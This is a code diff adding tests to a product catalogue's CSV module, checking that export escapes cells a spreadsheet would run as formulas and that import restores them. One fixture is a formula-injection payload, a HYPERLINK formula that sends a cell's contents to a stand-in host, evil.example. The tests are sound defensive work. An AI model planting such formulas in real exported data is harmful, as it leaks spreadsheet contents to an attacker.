@@ -1,3 +1,4 @@
+import { parse } from "csv-parse/sync";
 import { testProduct } from "@/lib/catalog/test-product";
 import { CSV_COLUMNS, CSV_MAX_ROWS, catalogFieldsOf, parseCatalogCsv, toCatalogCsv } from "./catalog-csv";
 import { changedFields } from "./product-input";
@@ -30,6 +31,57 @@ test("a catalogue survives a round trip: quotes, commas, line breaks, lists, var
   const csv = toCatalogCsv([rich, plain]); // the first row spans lines 2-5 (its description has three line breaks)
   const parsed = parseCatalogCsv(csv);
   expect(parsed).toEqual({ ok: true, rows: [{ line: 2, fields: rich }, { line: 6, fields: plain }] });
+});
+
+describe("formulas: a spreadsheet must not run a product's text", () => {
+  // What a spreadsheet runs as a formula: a cell starting with = + - @, a tab or a carriage return.
+  const RUNS = /^[=+\-@\t\r]/;
+  const hostile = {
+    ...plain,
+    sku: "=1+1",
+    name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    tags: ["+31 6 1234", "plain"],
+    shortDescription: "-2+3",
+    fullDescription: "@SUM(A1:A9)\nand more",
+  };
+  const cellsOf = (csv: string) => (parse(csv) as string[][])[1]!;
+  const cellOf = (csv: string, column: (typeof CSV_COLUMNS)[number]) => cellsOf(csv)[CSV_COLUMNS.indexOf(column)]!;
+
+  test("an export writes no cell that a spreadsheet would run: such a text gets a leading apostrophe", () => {
+    const csv = toCatalogCsv([hostile]);
+    expect(cellsOf(csv).filter((cell) => RUNS.test(cell))).toEqual([]);
+    expect(cellOf(csv, "sku")).toBe("'=1+1");
+    expect(cellOf(csv, "name")).toBe(`'${hostile.name}`);
+    expect(cellOf(csv, "tags")).toBe("'+31 6 1234|plain");
+    expect(cellOf(csv, "shortDescription")).toBe("'-2+3");
+    expect(cellOf(csv, "fullDescription")).toBe("'@SUM(A1:A9)\nand more");
+    for (const start of ["\t", "\r"]) expect(cellOf(toCatalogCsv([{ ...plain, fullDescription: `${start}x` }]), "fullDescription")).toBe(`'${start}x`);
+  });
+
+  test("the import takes the apostrophe off again: every text survives a round trip, one already starting with apostrophes too", () => {
+    for (const product of [
+      hostile,
+      { ...plain, name: "'=already quoted", shortDescription: "''-two", fullDescription: "+ more" },
+      { ...plain, name: "'Tis the season", shortDescription: "'", fullDescription: "it's -fine" },
+    ]) {
+      expect(parseCatalogCsv(toCatalogCsv([product]))).toEqual({ ok: true, rows: [{ line: 2, fields: product }] });
+    }
+    // Only a text that needed it is escaped: an apostrophe before anything else is the text's own.
+    expect(cellOf(toCatalogCsv([{ ...plain, name: "'Tis the season" }]), "name")).toBe("'Tis the season");
+  });
+
+  test("a file edited by hand: '=x is read as the text =x, as a spreadsheet shows it", () => {
+    const parsed = parseCatalogCsv(`${header}\n${row({ name: "'=x", sku: "'@home" })}\n`);
+    expect(parsed.ok && parsed.rows[0]!.fields).toMatchObject({ name: "=x", sku: "@home" });
+  });
+
+  test("number columns are numbers: written as they are, never escaped, and an apostrophe there is no number", () => {
+    const csv = toCatalogCsv([{ ...plain, price: 1250, discount: 5, stock: 0 }]);
+    expect([cellOf(csv, "price"), cellOf(csv, "discount"), cellOf(csv, "stock")]).toEqual(["12.50", "5", "0"]);
+    for (const [column, cell] of [["price", "'12.50"], ["stock", "'-1"], ["stock", "-1"], ["discount", "'5"]] as const) {
+      expect([cell, parseCatalogCsv(`${header}\n${row({ [column]: cell })}\n`)]).toEqual([cell, { ok: false, rowCount: 1, rowErrors: [{ line: 2, column, problem: "invalid" }] }]);
+    }
+  });
 });
 
 test("prices are dollars with a dot; a spreadsheet's yes/no and blank cells are understood", () => {
